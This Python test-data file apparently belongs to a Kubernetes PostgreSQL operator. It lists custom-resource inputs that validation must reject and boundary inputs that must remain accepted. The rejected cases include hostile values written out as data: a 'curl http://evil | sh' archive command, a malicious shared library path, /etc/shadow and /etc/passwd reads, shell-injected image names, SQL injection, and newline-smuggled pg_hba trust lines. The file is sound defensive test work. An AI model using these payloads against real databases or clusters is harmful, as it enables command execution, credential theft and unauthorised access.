"""Hostile SampleDB and SampleDBBackup input (issue #12) and the boundaries that must stay accepted.

One table for both sides of each rule: tests/integration/test_crd_validation.py sends every case to a
real API server (refused at admission, with `message` at `field`), and the unit tests hand the same
object to the models and validate_spec, as for an object stored before the rule existed (a Problem
with `reason`, its message containing the same `message`, its field starting with `field`).
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Any

DELETE = object()
VALID: dict[str, Any] = {
    "apiVersion": "sampledb.io/v1alpha1",
    "kind": "SampleDB",
    "metadata": {"name": "db"},
    "spec": {"version": "16.4", "storage": {"size": "1Gi"}},
}
VALID_BACKUP: dict[str, Any] = {
    "apiVersion": "sampledb.io/v1alpha1",
    "kind": "SampleDBBackup",
    "metadata": {"name": "db-manual-1"},
    "spec": {"database": "db"},
}
UNREADABLE = "UnreadableSpec"  # the models refuse to parse it (the reconciler's SpecValid reason)
DIGEST = "sha256:" + "0" * 64
QUANTITY = "must be a Kubernetes quantity such as 10Gi, 512Mi or 500m"
CONTROL = "parameter values must be a single line without control characters"
PARAMETER_NAME = "parameter names must be lowercase postgresql.conf settings"
NOT_A_REFERENCE = "must be an image reference"
NOT_PINNED = "must name a tag or a digest"


def variant(base: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
    """A deep copy of base with dotted paths set (or removed, for DELETE)."""
    out = copy.deepcopy(base)
    for path, value in changes.items():
        *parents, leaf = path.split(".")
        node = out
        for key in parents:
            node = node.setdefault(key, {})
        if value is DELETE:
            node.pop(leaf, None)
        else:
            node[leaf] = value
    return out


@dataclass(frozen=True)
class Case:
    id: str
    changes: dict[str, Any]
    message: str  # in the API server's answer and in the Problem's message
    field: str  # the API server's error names it; the Problem's field starts with it
    reason: str  # the Problem's reason, or UNREADABLE


def _hba(id_: str, rule: dict[str, Any], message: str, reason: str = "InvalidAccessRule", *,
         tls: dict[str, Any] | None = None) -> Case:
    """A rule refused on its own: second after a valid one (its index in the field); with `tls`, the only one."""
    changes: dict[str, Any] = {"spec.pgHba": [{"address": "10.0.0.0/8", "users": ["reporting"]}, rule]}
    if tls is not None:
        changes = {"spec.pgHba": [rule], "spec.tls": tls}
    field = "spec.pgHba" if tls is not None else "spec.pgHba[1]"
    return Case(f"pghba-{id_}", changes, message, field, reason)


POOLER_NAME = "pooler parameters are limited to PgBouncer's timeouts, limits and logging"
POOLER_VALUE = "pooler parameter values are one word"


def _pooler(name: str, value: str, message: str) -> Case:
    id_ = f"pooler-{name}-{value}".encode("unicode_escape").decode()[:40]
    return Case(id_, {"spec.pooler": {"parameters": {name: value}}}, message, "spec.pooler.parameters",
                "InvalidPoolerParameter")


def _params(params: dict[str, str], message: str) -> Case:
    name = "-".join(params).encode("unicode_escape").decode()[:30]
    return Case(f"parameters-{name}", {"spec.parameters": params}, message, "spec.parameters", "InvalidParameter")


HOSTILE_SAMPLEDBS: list[Case] = [
    # storage sizes: at most 64Ti, at least 64Mi, and no exponent the API server takes minutes over
    Case("storage-8Ei", {"spec.storage.size": "8Ei"}, "must be at most 64Ti", "spec.storage.size",
         "InvalidStorageSize"),
    Case("storage-one-byte-over-64Ti", {"spec.storage.size": 64 * 2**40 + 1}, "must be at most 64Ti",
         "spec.storage.size", "InvalidStorageSize"),
    Case("storage-1e100", {"spec.storage.size": "1e100"}, QUANTITY, "spec.storage.size", "InvalidStorageSize"),
    Case("storage-huge-exponent", {"spec.storage.size": "1e-2147483648"}, QUANTITY, "spec.storage.size",
         "InvalidStorageSize"),
    Case("storage-zero", {"spec.storage.size": "0"}, "must be at least 64Mi", "spec.storage.size",
         "InvalidStorageSize"),
    Case("storage-negative", {"spec.storage.size": "-10Gi"}, "must be at least 64Mi", "spec.storage.size",
         "InvalidStorageSize"),
    Case("backup-storage-8Ei", {"spec.backup.storage": {"size": "8Ei"}}, "must be at most 64Ti",
         "spec.backup.storage.size", "InvalidStorageSize"),
    Case("backup-storage-negative", {"spec.backup.storage": {"size": "-1"}}, "must be at least 64Mi",
         "spec.backup.storage.size", "InvalidStorageSize"),
    # parameters: nothing that runs commands, loads code, touches files or that the operator sets
    _params({"archive_command": "curl http://evil | sh"}, "cannot be set"),
    _params({"restore_command": "cp /x %p"}, "cannot be set"),
    _params({"ssl_passphrase_command": "sh -c evil"}, "cannot be set"),
    _params({"shared_preload_libraries": "/tmp/evil.so"}, "cannot be set"),
    _params({"dynamic_library_path": "/tmp"}, "cannot be set"),
    _params({"include_dir": "/tmp/conf.d"}, "cannot be set"),
    _params({"ssl_key_file": "/etc/shadow"}, "cannot be set"),
    _params({"log_directory": "/var/lib/postgresql/data"}, "cannot be set"),
    _params({"primary_conninfo": "host=evil"}, "cannot be set"),
    _params({"port": "5433"}, "cannot be set"),
    _params({"work_mem": "4MB", "unix_socket_permissions": "0777"}, "cannot be set"),
    _params({"archive-command": "sh"}, PARAMETER_NAME),  # postgres -c reads '-' as '_'
    _params({"ARCHIVE_COMMAND": "sh"}, PARAMETER_NAME),  # GUC names ignore case
    _params({"work_mem\nfsync": "off"}, PARAMETER_NAME),
    Case("parameters-value-nul", {"spec.parameters": {"work_mem": "4MB\x00"}}, CONTROL, "spec.parameters",
         "InvalidParameter"),
    Case("parameters-value-newline", {"spec.parameters": {"work_mem": "4MB\nfsync = off"}}, CONTROL,
         "spec.parameters", "InvalidParameter"),
    Case("parameters-value-carriage-return", {"spec.parameters": {"work_mem": "4MB\r"}}, CONTROL,
         "spec.parameters", "InvalidParameter"),
    Case("parameters-value-tab", {"spec.parameters": {"search_path": "a,\tb"}}, CONTROL, "spec.parameters",
         "InvalidParameter"),
    Case("parameters-value-escape", {"spec.parameters": {"application_name": "\x1b[2J"}}, CONTROL,
         "spec.parameters", "InvalidParameter"),
    Case("parameters-value-c1-next-line", {"spec.parameters": {"application_name": "a\x85b"}}, CONTROL,
         "spec.parameters", "InvalidParameter"),
    # images: a valid reference, pinned by a tag or a digest
    Case("image-without-tag", {"spec.image": "postgres"}, NOT_PINNED, "spec.image", "InvalidImage"),
    Case("image-registry-port-without-tag", {"spec.image": "registry:5000/postgres"}, NOT_PINNED, "spec.image",
         "InvalidImage"),
    Case("image-shell-suffix", {"spec.image": "postgres:16.4;reboot"}, NOT_A_REFERENCE, "spec.image",
         "InvalidImage"),
    Case("image-command-substitution", {"spec.image": "postgres:$(reboot)"}, NOT_A_REFERENCE, "spec.image",
         "InvalidImage"),
    Case("image-uppercase-repository", {"spec.image": "Postgres:16.4"}, NOT_A_REFERENCE, "spec.image",
         "InvalidImage"),
    Case("image-empty-tag", {"spec.image": "postgres:"}, NOT_A_REFERENCE, "spec.image", "InvalidImage"),
    Case("image-short-digest", {"spec.image": "postgres@sha256:abc"}, NOT_A_REFERENCE, "spec.image",
         "InvalidImage"),
    Case("image-tag-too-long", {"spec.image": "postgres:16" + "x" * 128}, NOT_A_REFERENCE, "spec.image",
         "InvalidImage"),
    # resources: non-negative quantities, known names, requests within limits
    Case("resources-negative-cpu", {"spec.resources": {"requests": {"cpu": "-1"}}}, "must not be negative",
         "spec.resources.requests", "InvalidResources"),
    Case("resources-negative-memory-limit", {"spec.resources": {"limits": {"memory": "-512Mi"}}},
         "must not be negative", "spec.resources.limits", "InvalidResources"),
    Case("resources-negative-integer", {"spec.resources": {"limits": {"cpu": -2}}}, "must not be negative",
         "spec.resources.limits", UNREADABLE),
    Case("resources-huge-exponent", {"spec.resources": {"limits": {"memory": "1e-2147483648"}}}, QUANTITY,
         "spec.resources.limits", "InvalidResources"),
    Case("resources-hugepages-no-size", {"spec.resources": {"limits": {"hugepages-": "2Mi", "memory": "1Gi"}}},
         "resource names must be cpu, memory, ephemeral-storage or hugepages-<page size>", "spec.resources.limits",
         "InvalidResources"),
    Case("resources-hugepages-bad-size", {"spec.resources": {"limits": {"hugepages-huge": "2Mi", "memory": "1Gi"}}},
         "resource names must be cpu, memory, ephemeral-storage or hugepages-<page size>", "spec.resources.limits",
         "InvalidResources"),
    Case("resources-request-above-limit", {"spec.resources": {"requests": {"cpu": "2"}, "limits": {"cpu": "1500m"}}},
         "each request must be at most the limit of the same resource", "spec.resources", "InvalidResources"),
    # pg_hba rules (spec.pgHba): none opens the server, reaches the operator's lines or writes a line of its own
    _hba("trust-from-everywhere", {"type": "host", "address": "0.0.0.0/0", "method": "trust"},
         "trust would admit whoever reaches the port"),
    _hba("clear-text-password", {"address": "10.0.0.0/8", "method": "password"}, "password sends it in clear text"),
    _hba("local-line", {"type": "local", "address": "all"}, "the socket's local lines are the operator's"),
    _hba("replication", {"databases": ["replication"], "address": "all"}, "replication connections are the"),
    _hba("operator-user", {"users": ["reporting", "app"], "address": "all", "method": "reject"},
         "they are the operator's users"),
    _hba("superuser", {"users": ["+postgres"], "address": "all", "method": "reject"}, "they are the operator's users"),
    _hba("cert-without-tls", {"type": "host", "address": "all", "method": "cert"}, "method cert needs type hostssl"),
    _hba("plaintext-when-tls-required", {"type": "host", "address": "10.0.0.0/8"}, "must be hostssl",
         tls={"required": True}),
    _hba("hostssl-without-tls", {"address": "10.0.0.0/8"}, "hostssl rules need spec.tls.enabled",
         tls={"enabled": False}),
    _hba("user-is-sql", {"users": ["x'; DROP ROLE app; --"], "address": "all"}, "should match", UNREADABLE),
    _hba("user-second-line", {"users": ["all\nhost all all 0.0.0.0/0 trust"], "address": "all"}, "should match",
         UNREADABLE),
    _hba("database-includes-a-file", {"databases": ["@/etc/passwd"], "address": "all"}, "should match", UNREADABLE),
    _hba("address-with-a-second-field", {"address": "0.0.0.0/0 trust"}, "should match", UNREADABLE),
    _hba("address-octet-over-255", {"address": "10.0.0.256/32"}, "should match", UNREADABLE),
    _hba("address-hostname", {"address": "db.example.com"}, "should match", UNREADABLE),
    # the pooler's settings (spec.pooler.parameters): timeouts, limits and logging, one word each
    *[_pooler(name, value, message) for name, value, message in (
        ("auth_file", "/etc/passwd", POOLER_NAME), ("auth_query", "SELECT 1", POOLER_NAME),
        ("listen_addr", "0.0.0.0", POOLER_NAME), ("admin_users", "reporting", POOLER_NAME),
        ("%include", "/etc/x", POOLER_NAME), ("server_tls_sslmode", "disable", POOLER_NAME),
        ("query_timeout", "5\nauth_type = trust", POOLER_VALUE), ("query_timeout", "5 ; x", POOLER_VALUE),
        ("query_timeout", "", POOLER_VALUE))],
]

ACCEPTED_SAMPLEDBS: list[tuple[str, dict[str, Any]]] = [
    ("storage-64Ti", {"spec.storage.size": "64Ti"}),
    ("storage-64Ti-as-integer", {"spec.storage.size": 64 * 2**40}),
    ("storage-64Mi", {"spec.storage.size": "64Mi"}),
    ("storage-two-digit-exponent", {"spec.storage.size": "1e12"}),
    ("backup-storage-64Ti", {"spec.backup.storage": {"size": "64Ti"}}),
    ("image-docker-hub-tag", {"spec.image": "postgres:16.4"}),
    ("image-registry-path-tag", {"spec.image": "docker.io/library/postgres:16.4-bookworm"}),
    ("image-registry-port-tag", {"spec.image": "registry.local:5000/db/postgres:16"}),
    ("image-ipv6-registry", {"spec.image": "[fd00::1]:5000/postgres:16.4"}),
    ("image-digest-only", {"spec.image": f"postgres@{DIGEST}"}),
    ("image-tag-and-digest", {"spec.image": f"postgres:16.4@{DIGEST}"}),
    ("image-separators", {"spec.image": "ghcr.io/my_org/pg-16__x.y:v16.4_1"}),
    ("parameters-ordinary", {"spec.parameters": {"work_mem": "4MB", "search_path": '"$user", public',
                                                 "pg_stat_statements.max": "1000", "application_name": "café"}}),
    ("parameters-empty-value", {"spec.parameters": {"search_path": ""}}),
    ("pghba-every-kind-of-rule", {"spec.pgHba": [
        {"users": ["reporting", "+readers"], "databases": ["app", "sameuser"], "address": "10.0.0.0/8"},
        {"type": "host", "address": "fd00::/8", "method": "md5"},
        {"type": "hostnossl", "address": "all", "method": "reject"},
        {"users": ["alice"], "address": "samenet", "method": "cert"},
        {"address": "192.168.1.7/32"}]}),
    ("pghba-tls-required-with-reject", {"spec.tls": {"required": True}, "spec.pgHba": [
        {"type": "host", "address": "all", "method": "reject", "users": ["legacy"]},
        {"address": "all"}]}),
    ("pooler-every-parameter", {"spec.pooler": {"parameters": {
        "server_idle_timeout": "600", "query_timeout": "0", "log_connections": "0", "server_lifetime": "3600",
        "max_db_connections": "40", "max_prepared_statements": "100"}}}),
    ("resources-zero-and-equal", {"spec.resources": {"requests": {"cpu": 0, "memory": "1Gi"},
                                                     "limits": {"memory": "1024Mi", "hugepages-2Mi": "4Mi"}}}),
]

BACKUP_NAME_MESSAGE = "must be at most 201 characters"
HOSTILE_BACKUP_NAMES: list[tuple[str, str]] = [
    ("202-characters", "b" * 202),
    ("253-characters-with-dots", ".".join(["b" * 62] * 4) + ".b"),
]
ACCEPTED_BACKUP_NAMES: list[tuple[str, str]] = [
    ("201-characters", "b" * 201),
    ("dots-and-dashes", "db-manual.2026-01-01"),
]
